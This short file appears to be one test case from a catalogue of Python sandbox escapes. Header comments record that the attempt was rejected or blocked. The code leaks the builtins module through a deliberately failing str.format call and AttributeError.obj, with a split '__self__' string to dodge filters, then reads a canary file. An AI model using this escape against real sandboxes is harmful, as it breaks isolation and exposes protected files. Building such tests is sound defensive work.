# Technique   format fails on purpose and the error hands the object out
# Mechanism   AttributeError.obj
# As shipped  rejected: attribute
# Unguarded   blocked: openat

def pull(path, thing):
    try:
        ("{0." + path + ".zzz}").format(thing)
    except AttributeError as e:
        return e.obj
real = pull("__se" + "lf__", len)
return real.open(CANARY_FILE).read()
